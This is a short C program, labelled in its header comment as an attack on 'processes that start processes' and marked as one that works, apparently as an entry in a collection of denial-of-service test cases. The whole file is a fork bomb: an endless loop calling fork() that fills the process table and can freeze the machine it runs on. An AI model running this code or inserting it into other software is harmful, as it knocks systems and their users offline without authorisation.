/*
 * attack: processes that start processes
 * fails: works
 */
#include <unistd.h>

int main(void)
{
    for (;;) {
        fork();
    }
}
